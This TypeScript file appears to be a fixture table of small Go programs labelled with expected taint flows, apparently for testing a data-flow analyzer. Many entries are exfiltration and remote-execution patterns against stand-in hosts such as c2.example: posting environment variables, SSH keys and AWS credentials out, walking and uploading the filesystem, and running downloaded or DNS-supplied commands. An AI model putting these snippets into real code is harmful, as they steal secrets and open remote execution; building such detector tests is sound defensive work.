/** A small program: what must flow in it, as `source>sink`, and its code. */
export interface FlowProgram {
  readonly title: string;
  readonly flows: readonly string[];
  readonly code: string;
}

const program = (title: string, flows: string, code: string): FlowProgram => ({
  title,
  flows: flows === '' ? [] : flows.split(' '),
  code: code.trim(),
});

/** Short names that the programs use. */
export const FLOW_HELPERS = `
func source() string { return os.Getenv("KEY") }

func sink(text string) { http.Post("https://c2.example/", "text/plain", strings.NewReader(text)) }

func run(args ...string) { exec.Command(args[0], args[1:]...).Run() }

func touch(...any) {}
`;

const TABLE = `
direct | environment>network
http.Get("https://c2.example/?" + os.Getenv("A"))
---
no source |
http.Get("https://c2.example/?" + "A")
---
source that is not used | 
x := os.Getenv("A"); touch(x); http.Get("https://c2.example/")
---
through a variable | environment>exec
x := os.Getenv("A"); y := x; exec.Command(y)
---
overwritten | 
x := os.Getenv("A"); x = "clean"; exec.Command(x)
---
overwritten later | environment>exec
x := os.Getenv("A"); exec.Command(x); x = "clean"; touch(x)
---
overwritten in one branch | environment>exec
x := os.Getenv("A"); if len(os.Args) > 1 { x = "clean" }; exec.Command(x)
---
overwritten in both branches | 
x := os.Getenv("A"); if len(os.Args) > 1 { x = "clean" } else { x = "b" }; exec.Command(x)
---
set in one branch | environment>exec
x := "clean"; if len(os.Args) > 1 { x = os.Getenv("A") }; exec.Command(x)
---
early return | 
x := "clean"; if len(os.Args) > 1 { x = os.Getenv("A"); touch(x); return }; exec.Command(x)
---
early return of the clean way | environment>exec
x := os.Getenv("A"); if x == "" { x = "b"; touch(x); return }; exec.Command(x)
---
after a return | 
exec.Command("a"); return; exec.Command(os.Getenv("A"))
---
a panic ends the way | 
x := "clean"; if len(os.Args) > 1 { x = os.Getenv("A"); panic(x) }; exec.Command(x)
---
os.Exit ends the way | 
x := "clean"; if len(os.Args) > 1 { x = os.Getenv("A"); touch(x); os.Exit(1) }; exec.Command(x)
---
shadowed | 
x := "clean"; { x := os.Getenv("A"); touch(x) }; exec.Command(x)
---
shadowed by the clean one | environment>exec
x := os.Getenv("A"); { x := "clean"; touch(x) }; exec.Command(x)
---
set in an inner block | environment>exec
x := "clean"; { x = os.Getenv("A") }; exec.Command(x)
---
in a loop | environment>exec
x := ""; for i := 0; i < 2; i++ { exec.Command(x); x = os.Getenv("A") }
---
out of a loop | environment>exec
x := ""; for i := 0; i < 2; i++ { x = os.Getenv("A") }; exec.Command(x)
---
reset in each turn | 
for i := 0; i < 2; i++ { x := "clean"; exec.Command(x); x = os.Getenv("A"); touch(x) }
---
break carries it out | environment>exec
x := ""; for { x = os.Getenv("A"); break }; exec.Command(x)
---
continue carries it on | environment>exec
x := ""; for i := 0; i < 3; i++ { if i == 0 { x = os.Getenv("A"); continue }; exec.Command(x) }
---
labelled break | environment>exec
x := ""
outer:
	for { for { x = os.Getenv("A"); break outer } }
	exec.Command(x)
---
switch | environment>exec
x := ""; switch len(os.Args) { case 1: x = os.Getenv("A"); default: x = "b" }; exec.Command(x)
---
switch where all are clean | 
x := os.Getenv("A"); switch len(os.Args) { case 1: x = "a"; default: x = "b" }; exec.Command(x)
---
switch without a default | environment>exec
x := os.Getenv("A"); switch len(os.Args) { case 1: x = "a"; case 2: x = "b" }; exec.Command(x)
---
type switch | environment>exec
var x any = os.Getenv("A"); switch y := x.(type) { case string: exec.Command(y) }
---
type assertion | environment>exec
var x any = os.Getenv("A"); exec.Command(x.(string))
---
swap | environment>exec
a, b := os.Getenv("A"), "clean"; a, b = b, a; touch(a); exec.Command(b)
---
swap of the other | 
a, b := os.Getenv("A"), "clean"; a, b = b, a; touch(b); exec.Command(a)
---
comparison only | 
x := os.Getenv("A"); y := "a"; if x == "b" { y = "c" }; exec.Command(y)
---
length only | 
x := os.Getenv("A"); exec.Command(strconv.Itoa(len(x)))
---
contains only | 
x := os.Getenv("A"); exec.Command(strconv.FormatBool(strings.Contains(x, "a")))
---
a sum is no secret | 
x := sha256.Sum256([]byte(os.Getenv("A"))); exec.Command(hex.EncodeToString(x[:]))
---
base64 is one | environment>network
x := base64.StdEncoding.EncodeToString([]byte(os.Getenv("A"))); http.Get("https://c2.example/" + x)
---
formatted | environment>exec
exec.Command("sh", "-c", fmt.Sprintf("echo %s", os.Getenv("A")))
---
joined | environment>exec
exec.Command(strings.Join([]string{"a", os.Getenv("A")}, "-"))
---
upper case | environment>exec
exec.Command(strings.ToUpper(strings.TrimSpace(os.Getenv("A"))))
---
slice of it | environment>exec
x := os.Getenv("A"); exec.Command(x[1:3])
---
bytes and back | environment>exec
b := []byte(os.Getenv("A")); for i := range b { b[i] ^= 3 }; exec.Command(string(b))
---
added to | environment>exec
x := "a"; x += os.Getenv("A"); exec.Command(x)
---
builder | environment>exec
var b strings.Builder; b.WriteString("x"); b.WriteString(os.Getenv("A")); exec.Command(b.String())
---
another builder | 
var a, b strings.Builder; a.WriteString(os.Getenv("A")); b.WriteString("x"); touch(a.String()); exec.Command(b.String())
---
buffer | environment>network
var b bytes.Buffer; b.WriteString(os.Getenv("A")); http.Post("https://c2.example/", "", &b)
---
fprintf into a buffer | environment>network
var b bytes.Buffer; fmt.Fprintf(&b, "%s", os.Getenv("A")); http.Post("https://c2.example/", "", &b)
---
json | environment>network
d, _ := json.Marshal(map[string]string{"a": os.Getenv("A")}); http.Post("https://c2.example/", "", bytes.NewReader(d))
---
json of a struct | environment>network
type T struct{ A string }; d, _ := json.Marshal(T{A: os.Getenv("A")}); http.Post("https://c2.example/", "", bytes.NewReader(d))
---
unmarshalled | network>exec
r, _ := http.Get("https://c2.example/"); d, _ := io.ReadAll(r.Body); var c struct{ Run string }; json.Unmarshal(d, &c); exec.Command(c.Run)
---
decoded | network>exec
r, _ := http.Get("https://c2.example/"); var c struct{ Run string }; json.NewDecoder(r.Body).Decode(&c); exec.Command(c.Run)
---
struct field | environment>exec
type T struct{ a, b string }; var t T; t.a = os.Getenv("A"); exec.Command(t.a)
---
other field | 
type T struct{ a, b string }; var t T; t.a = os.Getenv("A"); touch(t.a); exec.Command(t.b)
---
other field of a literal | 
type T struct{ a, b string }; t := T{a: os.Getenv("A"), b: "c"}; touch(t.a); exec.Command(t.b)
---
field of a literal | environment>exec
type T struct{ a, b string }; t := T{a: os.Getenv("A"), b: "c"}; touch(t.b); exec.Command(t.a)
---
positional field | environment>exec
type T struct{ a string }; t := T{os.Getenv("A")}; exec.Command(t.a)
---
field overwritten | 
type T struct{ a string }; t := T{a: os.Getenv("A")}; t.a = "b"; exec.Command(t.a)
---
field kept beside another | environment>exec
type T struct{ a, b string }; t := T{a: os.Getenv("A")}; t.b = "b"; exec.Command(t.a)
---
nested field | environment>exec
type I struct{ a string }; type T struct{ i I }; var t T; t.i.a = os.Getenv("A"); exec.Command(t.i.a)
---
nested field beside | 
type I struct{ a, b string }; type T struct{ i I }; var t T; t.i.a = os.Getenv("A"); exec.Command(t.i.b)
---
copy of a struct | environment>exec
type T struct{ a string }; t := T{a: os.Getenv("A")}; u := t; t.a = "x"; touch(t); exec.Command(u.a)
---
write to a copy | 
type T struct{ a string }; t := T{a: "x"}; u := t; u.a = os.Getenv("A"); touch(u); exec.Command(t.a)
---
alias by pointer | environment>exec
type T struct{ a string }; t := T{}; p := &t; p.a = os.Getenv("A"); exec.Command(t.a)
---
alias of a pointer | environment>exec
type T struct{ a string }; p := &T{}; q := p; q.a = os.Getenv("A"); exec.Command(p.a)
---
alias overwritten | 
type T struct{ a string }; p := &T{a: os.Getenv("A")}; q := p; q.a = "b"; exec.Command(p.a)
---
two objects | 
type T struct{ a string }; p, q := &T{}, &T{}; p.a = os.Getenv("A"); touch(p); exec.Command(q.a)
---
pointer to a text | environment>exec
x := "a"; p := &x; *p = os.Getenv("A"); exec.Command(x)
---
pointer that is read | environment>exec
x := os.Getenv("A"); p := &x; exec.Command(*p)
---
new | environment>exec
p := new(string); *p = os.Getenv("A"); exec.Command(*p)
---
pointer in a field | environment>exec
type I struct{ a string }; type T struct{ i *I }; i := &I{}; t := T{i: i}; t.i.a = os.Getenv("A"); exec.Command(i.a)
---
slice element | environment>exec
s := []string{"a", "b"}; s[1] = os.Getenv("A"); exec.Command(s[0], s[1])
---
another slice | 
s, t := []string{"a"}, []string{"b"}; s[0] = os.Getenv("A"); touch(s); exec.Command(t[0])
---
slices share | environment>exec
s := make([]string, 1); t := s; t[0] = os.Getenv("A"); exec.Command(s[0])
---
append | environment>exec
var s []string; s = append(s, os.Getenv("A")); exec.Command(s[0])
---
append of many | environment>exec
var s []string; s = append(s, os.Environ()...); exec.Command(s[0])
---
copy | environment>exec
s := make([]string, 1); copy(s, os.Environ()); exec.Command(s[0])
---
range | environment>exec
for _, e := range os.Environ() { exec.Command(e) }
---
index of a range | 
for i := range os.Environ() { exec.Command(strconv.Itoa(i)) }
---
map | environment>exec
m := map[string]string{}; m["a"] = os.Getenv("A"); exec.Command(m["a"])
---
map that is not read | 
m := map[string]string{}; m["a"] = os.Getenv("A"); exec.Command(strconv.Itoa(len(m)))
---
key of a map | environment>exec
m := map[string]bool{}; m[os.Getenv("A")] = true; for k := range m { exec.Command(k) }
---
comma ok | environment>exec
m := map[string]string{"a": os.Getenv("A")}; if v, ok := m["a"]; ok { exec.Command(v) }
---
slice of structs | environment>exec
type T struct{ a string }; s := []T{{a: os.Getenv("A")}}; for _, t := range s { exec.Command(t.a) }
---
channel | environment>exec
c := make(chan string, 1); c <- os.Getenv("A"); exec.Command(<-c)
---
another channel | 
c, d := make(chan string, 1), make(chan string, 1); c <- os.Getenv("A"); d <- "x"; touch(<-c); exec.Command(<-d)
---
channel and goroutine | environment>exec
c := make(chan string); go func() { c <- os.Getenv("A") }(); exec.Command(<-c)
---
range over a channel | environment>exec
c := make(chan string, 1); c <- os.Getenv("A"); close(c); for v := range c { exec.Command(v) }
---
select | environment>exec
c := make(chan string, 1); c <- os.Getenv("A"); select { case v := <-c: exec.Command(v); default: }
---
channel of structs | environment>exec
type T struct{ a string }; c := make(chan T, 1); c <- T{a: os.Getenv("A")}; t := <-c; exec.Command(t.a)
---
closure reads | environment>exec
x := os.Getenv("A"); f := func() { exec.Command(x) }; f()
---
closure writes | environment>exec
x := ""; f := func() { x = os.Getenv("A") }; f(); exec.Command(x)
---
closure returns | environment>exec
f := func() string { return os.Getenv("A") }; exec.Command(f())
---
closure takes | environment>exec
f := func(x string) { exec.Command(x) }; f(os.Getenv("A"))
---
closure that takes the clean one | 
f := func(x, y string) { touch(x); exec.Command(y) }; f(os.Getenv("A"), "b")
---
closure in a field | environment>exec
type T struct{ f func(string) }; t := T{f: func(x string) { exec.Command(x) }}; t.f(os.Getenv("A"))
---
closure in a map | environment>exec
m := map[string]func(string){"a": func(x string) { exec.Command(x) }}; m["a"](os.Getenv("A"))
---
closure of a closure | environment>exec
f := func(x string) func() { return func() { exec.Command(x) } }; f(os.Getenv("A"))()
---
closure with its own variable | 
x := os.Getenv("A"); f := func() string { x := "b"; return x }; touch(x); exec.Command(f())
---
goroutine | environment>exec
go exec.Command(os.Getenv("A"))
---
deferred | environment>exec
defer func(x string) { exec.Command(x) }(os.Getenv("A"))
---
callback of the library | environment>exec
exec.Command(strings.Map(func(r rune) rune { return r + 1 }, os.Getenv("A")))
---
helper returns | environment>exec
exec.Command(source())
---
helper takes | environment>network
sink(os.Getenv("A"))
---
helper takes and returns | environment>network
sink(source())
---
helper with variadic arguments | environment>exec
run("a", source())
---
helper with clean arguments | 
x := source(); touch(x); run("a", "b")
---
function value | environment>network
f := sink; f(source())
---
function in a slice | environment>network
for _, f := range []func(string){sink} { f(source()) }
---
exec.Cmd literal | environment>exec
c := exec.Cmd{Path: "/bin/sh", Args: []string{"sh", "-c", os.Getenv("A")}}; c.Run()
---
exec.Cmd whose folder is set | 
c := exec.Command("/bin/true"); c.Dir = os.Getenv("A"); c.Run()
---
stdin of a command | environment>exec
c := exec.Command("sh"); c.Stdin = strings.NewReader(os.Getenv("A")); c.Run()
---
request header | environment>network
r, _ := http.NewRequest("GET", "https://c2.example/", nil); r.Header.Set("X", os.Getenv("A")); http.DefaultClient.Do(r)
---
request body | environment>network
r, _ := http.NewRequest("POST", "https://c2.example/", strings.NewReader(os.Getenv("A"))); http.DefaultClient.Do(r)
---
form | environment>network
v := url.Values{}; v.Set("a", os.Getenv("A")); http.PostForm("https://c2.example/", v)
---
connection | environment>network
c, _ := net.Dial("tcp", "192.0.2.1:1"); c.Write([]byte(os.Getenv("A")))
---
printed to a connection | environment>network
c, _ := net.Dial("tcp", "192.0.2.1:1"); fmt.Fprintln(c, os.Getenv("A"))
---
printed to the terminal | 
fmt.Fprintln(os.Stderr, os.Getenv("A")); fmt.Println(os.Getenv("A"))
---
encoder on a connection | environment>network
c, _ := net.Dial("tcp", "192.0.2.1:1"); json.NewEncoder(c).Encode(os.Environ())
---
copied to a connection | file>network
c, _ := net.Dial("tcp", "192.0.2.1:1"); f, _ := os.Open("a"); io.Copy(c, f)
---
credential file | credential>network
d, _ := os.ReadFile(filepath.Join(os.Getenv("HOME"), ".ssh", "id_rsa")); http.Post("https://c2.example/", "", bytes.NewReader(d))
---
plain file | file>network
d, _ := os.ReadFile("a.txt"); http.Post("https://c2.example/", "", bytes.NewReader(d))
---
file that is not sent | 
d, _ := os.ReadFile("a.txt"); fmt.Println(len(d)); http.Get("https://c2.example/")
---
download that is run | network>file network>exec
r, _ := http.Get("https://c2.example/"); d, _ := io.ReadAll(r.Body); os.WriteFile("x", d, 0o755); exec.Command("sh", "-c", string(d))
---
download that is written | network>file
r, _ := http.Get("https://c2.example/"); f, _ := os.Create("x"); io.Copy(f, r.Body)
---
host name | host>network
h, _ := os.Hostname(); http.Get("https://c2.example/?h=" + h)
---
DNS | host>network
h, _ := os.Hostname(); net.LookupHost(h + ".c2.example")
---
records that are run | network>exec
t, _ := net.LookupTXT("c2.example"); for _, x := range t { exec.Command("sh", "-c", x).Run() }
---
mapped memory | network>memory
r, _ := http.Get("https://c2.example/"); d, _ := io.ReadAll(r.Body); m, _ := syscall.Mmap(-1, 0, 4096, 7, 34); copy(m, d)
---
error of a source | 
_, err := os.ReadFile("a.txt"); http.Get("https://c2.example/?e=" + strconv.FormatBool(err != nil))
---
read from a connection | network>exec
c, _ := net.Dial("tcp", "192.0.2.1:1"); b := make([]byte, 99); n, _ := c.Read(b); exec.Command(string(b[:n]))
---
scanner | network>exec
c, _ := net.Dial("tcp", "192.0.2.1:1"); s := bufio.NewScanner(c); for s.Scan() { exec.Command(s.Text()) }
---
template | environment>network
t, _ := template.New("").Parse("{{.}}"); var b bytes.Buffer; t.Execute(&b, os.Getenv("A")); http.Post("https://c2.example/", "", &b)
---
gzip | file>network
d, _ := os.ReadFile("a"); var b bytes.Buffer; z := gzip.NewWriter(&b); z.Write(d); z.Close(); http.Post("https://c2.example/", "", &b)
---
multipart | file>network
var b bytes.Buffer; m := multipart.NewWriter(&b); p, _ := m.CreateFormFile("f", "a"); d, _ := os.ReadFile("a"); p.Write(d); m.Close(); http.Post("https://c2.example/", m.FormDataContentType(), &b)
---
pipe | environment>network
r, w := io.Pipe(); go func() { w.Write([]byte(os.Getenv("A"))); w.Close() }(); http.Post("https://c2.example/", "", r)
---
tee of a body | network>file
r, _ := http.Get("https://c2.example/"); f, _ := os.Create("x"); io.ReadAll(io.TeeReader(r.Body, f))
---
hex of each byte | environment>network
var s []string; for _, b := range []byte(os.Getenv("A")) { s = append(s, fmt.Sprintf("%02x", b)) }; http.Get("https://c2.example/" + strings.Join(s, ""))
---
split and sent | environment>network
for _, e := range os.Environ() { k, v, _ := strings.Cut(e, "="); if strings.HasPrefix(k, "AWS") { http.Get("https://c2.example/?" + v) } }
---
prefix alone decides | 
n := 0; for _, e := range os.Environ() { if strings.HasPrefix(e, "AWS") { n++ } }; http.Get(fmt.Sprint("https://c2.example/", n))
---
map of the environment | environment>network
m := map[string]any{}; for _, e := range os.Environ() { p := strings.SplitN(e, "=", 2); m[p[0]] = p[1] }; d, _ := json.Marshal(m); http.Post("https://c2.example/", "", bytes.NewReader(d))
---
slice of slices | environment>exec
s := [][]string{{"a"}, {os.Getenv("A")}}; for _, r := range s { exec.Command(r[0], r[1:]...) }
---
pointer to pointer | environment>exec
x := "a"; p := &x; q := &p; **q = os.Getenv("A"); exec.Command(x)
---
array | environment>exec
var a [2]string; a[0] = os.Getenv("A"); exec.Command(a[0])
---
copy of an array | 
a := [2]string{"x", "y"}; b := a; b[0] = os.Getenv("A"); touch(b); exec.Command(a[0])
---
closure counter | 
n := 0; f := func(x string) int { n++; return n }; exec.Command(strconv.Itoa(f(os.Getenv("A"))))
---
deferred write | environment>file
f, _ := os.Create("x"); x := os.Getenv("A"); defer f.WriteString(x)
---
goroutine with a wait | environment>exec
var x string; var g sync.WaitGroup; g.Add(1); go func() { defer g.Done(); x = os.Getenv("A") }(); g.Wait(); exec.Command(x)
---
value in a sync.Map | environment>exec
var m sync.Map; m.Store("a", os.Getenv("A")); v, _ := m.Load("a"); exec.Command(v.(string))
---
context value | environment>exec
c := context.WithValue(context.Background(), "k", os.Getenv("A")); exec.Command(c.Value("k").(string))
---
error with the text | environment>network
err := fmt.Errorf("no %s", os.Getenv("A")); http.Get("https://c2.example/?e=" + err.Error())
---
fallthrough | environment>exec
x := ""; switch { case len(os.Args) > 1: x = os.Getenv("A"); fallthrough; case len(os.Args) > 2: exec.Command(x) }
---
assigned in a condition | environment>exec
if x, ok := os.LookupEnv("A"); ok { exec.Command(x) }
---
found or not | 
_, ok := os.LookupEnv("A"); exec.Command(fmt.Sprint(ok))
---
cleared slice | 
s := os.Environ(); s = nil; exec.Command(strings.Join(s, ""))
---
bits | environment>exec
b := []byte(os.Getenv("A")); var n uint32; for _, c := range b { n = n<<8 | uint32(c) }; exec.Command(fmt.Sprint(n))
---
function of the library under another name | environment>network
get := http.Get; get("https://c2.example/" + os.Getenv("A"))
---
source under another name | environment>network
get := os.Getenv; http.Get("https://c2.example/" + get("A"))
---
source under another name that is not called | 
get := os.Getenv; touch(get); http.Get("https://c2.example/")
---
variable whose presence alone counts | 
_, ok := os.LookupEnv("A"); if ok { http.Get("https://c2.example/") }
---
presence of a variable sent out | 
_, ok := os.LookupEnv("A"); http.Get("https://c2.example/" + fmt.Sprint(ok))
---
channel given to a goroutine | environment>network
c := make(chan string); go func(c chan string) { http.Get("https://c2.example/" + <-c) }(c); c <- os.Getenv("A")
---
channel in a struct | environment>network
m := struct{ c chan string }{make(chan string, 1)}; m.c <- os.Getenv("A"); http.Get("https://c2.example/" + <-m.c)
---
result that a deferred call adds to | environment>network
f := func() (s string) { defer func() { s += os.Getenv("A") }(); return "x" }; http.Get("https://c2.example/" + f())
---
digits from a table | environment>network
const d = "0123456789abcdef"; x := os.Getenv("A"); out := ""; for i := 0; i < len(x); i++ { out += string(d[x[i]>>4]) + string(d[x[i]&15]) }; http.Get("https://c2.example/" + out)
---
digits from a table in a package | environment>network
http.Get("https://c2.example/" + digits(os.Getenv("A"))) }
const alphabet = "0123456789abcdef"
func digits(x string) (out string) { for i := 0; i < len(x); i++ { out += string(alphabet[x[i]>>4]) + string(alphabet[x[i]&15]) }; return
---
iterator of the library | environment>network
for s := range slices.Values([]string{os.Getenv("A")}) { http.Get("https://c2.example/" + s) }
---
method value | environment>network
c := &http.Client{}; get := c.Get; get("https://c2.example/" + os.Getenv("A"))
---
immediate closure | environment>exec
exec.Command(func() string { return os.Getenv("A") }())
---
label in a select loop | environment>exec
c := make(chan string, 1); c <- os.Getenv("A"); x := ""
loop:
	for { select { case x = <-c: break loop; default: } }
	exec.Command(x)
---
added to in a loop | environment>exec
var x string; for i := 0; i < 3; i++ { x = x + os.Getenv("A") }; exec.Command(x)
---
added to in a switch in a loop | environment>exec
var x, y string; for i := 0; i < 3; i++ { switch i { case 1: x = y + os.Getenv("A"); case 2: y = x } }; exec.Command(y)
---
one of two objects | environment>exec
type T struct{ a string }; p, q := &T{}, &T{}; r := p; if len(os.Args) > 1 { r = q }; r.a = os.Getenv("A"); exec.Command(q.a)
---
encrypted | environment>network
k, _ := aes.NewCipher([]byte("0123456789abcdef")); d := []byte(os.Getenv("A")); o := make([]byte, len(d)); cipher.NewCTR(k, make([]byte, 16)).XORKeyStream(o, d); http.Post("https://c2.example/", "", bytes.NewReader(o))
`;

/** Programs of whole declarations. */
const DECLARED: readonly FlowProgram[] = [
  program(
    'secret parameter',
    'parameter>network',
    'func Login(user, password string) { http.Get("https://c2.example/" + password) }',
  ),
  program(
    'plain parameter',
    '',
    'func Login(user, place string) { http.Get("https://c2.example/" + place) }',
  ),
  program(
    'secret parameter that is kept',
    'parameter>network',
    `
type client struct{ token string }
func New(token string) *client { return &client{token: token} }
func (c *client) Send() { http.Get("https://c2.example/" + c.token) }`,
  ),
  program(
    'secret parameter beside',
    '',
    `
type client struct{ token, name string }
func New(token string) *client { return &client{token: token} }
func (c *client) Send() { http.Get("https://c2.example/" + c.name) }`,
  ),
  program(
    'method',
    'environment>exec',
    `
type t struct{ a string }
func (x *t) load() { x.a = os.Getenv("A") }
func (x *t) use() { exec.Command(x.a) }
func F() { x := &t{}; x.load(); x.use() }`,
  ),
  program(
    'method in the other order',
    '',
    `
type t struct{ a string }
func (x *t) load() { x.a = os.Getenv("A") }
func (x *t) use() { exec.Command(x.a) }
func F() { x := &t{}; x.use(); x.load() }`,
  ),
  program(
    'method of another value',
    '',
    `
type t struct{ a string }
func (x *t) load() { x.a = os.Getenv("A") }
func (x *t) use() { exec.Command(x.a) }
func F() { x, y := &t{}, &t{}; x.load(); y.use() }`,
  ),
  program(
    'method of a value',
    '',
    `
type t struct{ a string }
func (x t) load() t { x.a = os.Getenv("A"); return x }
func F() { x := t{}; touch(x.load()); exec.Command(x.a) }`,
  ),
  program(
    'interface',
    'environment>exec',
    `
type user interface{ use(string) }
type t struct{}
func (t) use(x string) { exec.Command(x) }
func F(u user) { u.use(os.Getenv("A")) }
func G() { F(t{}) }`,
  ),
  program(
    'interface that returns',
    'environment>exec',
    `
type getter interface{ get() string }
type t struct{}
func (t) get() string { return os.Getenv("A") }
func F(g getter) { exec.Command(g.get()) }
func G() { F(t{}) }`,
  ),
  program(
    'interface without the method',
    '',
    `
type user interface{ use(string) }
type t struct{}
func (t) use(x string) { touch(x) }
func F(u user) { u.use(os.Getenv("A")); exec.Command("a") }
func G() { F(t{}) }`,
  ),
  program(
    'embedded',
    'environment>exec',
    `
type in struct{ a string }
func (i *in) use() { exec.Command(i.a) }
type out struct{ in }
func F() { o := &out{}; o.a = os.Getenv("A"); o.use() }`,
  ),
  program(
    'package variable',
    'environment>exec',
    `
var kept string
func F() { kept = os.Getenv("A") }
func G() { exec.Command(kept) }`,
  ),
  program(
    'another package variable',
    '',
    `
var kept, other string
func F() { kept = os.Getenv("A"); touch(kept) }
func G() { exec.Command(other) }`,
  ),
  program(
    'initialised package variable',
    'environment>exec',
    `
var kept = os.Getenv("A")
func G() { exec.Command(kept) }`,
  ),
  program(
    'field of a package variable',
    'environment>exec',
    `
var kept struct{ a, b string }
func F() { kept.a = os.Getenv("A") }
func G() { exec.Command(kept.a) }`,
  ),
  program(
    'other field of a package variable',
    '',
    `
var kept struct{ a, b string }
func F() { kept.a = os.Getenv("A") }
func G() { exec.Command(kept.b) }`,
  ),
  program(
    'map in a package variable',
    'environment>exec',
    `
var kept = map[string]string{}
func F() { kept["a"] = os.Getenv("A") }
func G() { exec.Command(kept["a"]) }`,
  ),
  program(
    'identity, called twice',
    '',
    `
func id(x string) string { return x }
func F() { touch(id(os.Getenv("A"))); exec.Command(id("b")) }`,
  ),
  program(
    'identity',
    'environment>exec',
    `
func id(x string) string { return x }
func F() { exec.Command(id(id(os.Getenv("A")))) }`,
  ),
  program(
    'one of two results',
    'environment>exec',
    `
func two() (string, string) { return os.Getenv("A"), "b" }
func F() { a, _ := two(); exec.Command(a) }`,
  ),
  program(
    'the other of two results',
    '',
    `
func two() (string, string) { return os.Getenv("A"), "b" }
func F() { _, b := two(); exec.Command(b) }`,
  ),
  program(
    'named result',
    'environment>exec',
    `
func named() (x string) { x = os.Getenv("A"); return }
func F() { exec.Command(named()) }`,
  ),
  program(
    'results as arguments',
    'environment>exec',
    `
func two() (string, string) { return "a", os.Getenv("A") }
func take(a, b string) { exec.Command(b) }
func F() { take(two()) }`,
  ),
  program(
    'filled by pointer',
    'environment>exec',
    `
type t struct{ a string }
func fill(x *t) { x.a = os.Getenv("A") }
func F() { var x t; fill(&x); exec.Command(x.a) }`,
  ),
  program(
    'text filled by pointer',
    'environment>exec',
    `
func fill(x *string) { *x = os.Getenv("A") }
func F() { var x string; fill(&x); exec.Command(x) }`,
  ),
  program(
    'filled field by pointer',
    'environment>exec',
    `
type t struct{ a string }
func fill(x *string) { *x = os.Getenv("A") }
func F() { var x t; fill(&x.a); exec.Command(x.a) }`,
  ),
  program(
    'slice filled by a function',
    'environment>exec',
    `
func fill(x []string) { x[0] = os.Getenv("A") }
func F() { x := make([]string, 1); fill(x); exec.Command(x[0]) }`,
  ),
  program(
    'recursion',
    'environment>exec',
    `
func again(x string, n int) string { if n == 0 { return x }; return again(x, n-1) }
func F() { exec.Command(again(os.Getenv("A"), 3)) }`,
  ),
  program(
    'recursion without a source',
    '',
    `
func again(x string, n int) string { if n == 0 { return "a" }; touch(x); return again("b", n-1) }
func F() { exec.Command(again(os.Getenv("A"), 3)) }`,
  ),
  program(
    'callback',
    'environment>exec',
    `
func each(f func(string)) { f(os.Getenv("A")) }
func F() { each(func(x string) { exec.Command(x) }) }`,
  ),
  program(
    'callback without a use',
    '',
    `
func each(f func(string)) { f(os.Getenv("A")) }
func F() { each(func(x string) { touch(x) }); exec.Command("a") }`,
  ),
  program(
    'walk of files',
    'file>network',
    `
func F() { filepath.Walk("/", func(path string, _ os.FileInfo, _ error) error { d, _ := os.ReadFile(path); http.Post("https://c2.example/", "", bytes.NewReader(d)); return nil }) }`,
  ),
  program(
    'handler',
    'network>exec',
    `
func handle(w http.ResponseWriter, r *http.Request) { exec.Command(r.URL.Query().Get("cmd")) }
func F() { http.HandleFunc("/", handle) }`,
  ),
  program(
    'handler that answers',
    'environment>network',
    `
func handle(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, os.Getenv("A")) }
func F() { http.HandleFunc("/", handle) }`,
  ),
  program(
    'generic',
    'environment>exec',
    `
func id[T any](x T) T { return x }
func F() { exec.Command(id(os.Getenv("A")), id[string]("b")) }`,
  ),
  program(
    'four deep',
    'environment>exec',
    `
func a() string { return b() }
func b() string { return c() }
func c() string { return os.Getenv("A") }
func d(x string) { e(x) }
func e(x string) { exec.Command(x) }
func F() { d(a()) }`,
  ),
  program(
    'constant path of a credential',
    'credential>network',
    `
const path = "/home/user/.aws/credentials"
func F() { d, _ := os.ReadFile(path); http.Post("https://c2.example/", "", bytes.NewReader(d)) }`,
  ),
];

/** The table of flows. */
export const FLOW_PROGRAMS: readonly FlowProgram[] = [
  ...TABLE.split('\n---\n').map((entry) => {
    const [head = '', ...code] = entry.trim().split('\n');
    const [title = '', flows = ''] = head.split('|').map((part) => part.trim());
    return program(title, flows, `func F() {\n\t${code.join('\n').trim()}\n}`);
  }),
  ...DECLARED,
];

const PACKAGES = [
  'bufio',
  'bytes',
  'compress/gzip',
  'context',
  'crypto/aes',
  'crypto/cipher',
  'crypto/sha256',
  'encoding/base64',
  'encoding/hex',
  'encoding/json',
  'fmt',
  'io',
  'mime/multipart',
  'net',
  'net/http',
  'net/url',
  'os',
  'os/exec',
  'path/filepath',
  'slices',
  'strconv',
  'strings',
  'sync',
  'syscall',
  'text/template',
];

/** A program as a file that compiles. */
export function flowFile({ code }: FlowProgram): string {
  const all = `${FLOW_HELPERS}\n${code}\n`;
  const used = PACKAGES.filter((path) => new RegExp(`\\b${path.split('/').pop()}\\.`).test(all));
  return `package m\n\nimport (\n${used.map((path) => `\t"${path}"\n`).join('')})\n${all}`;
}
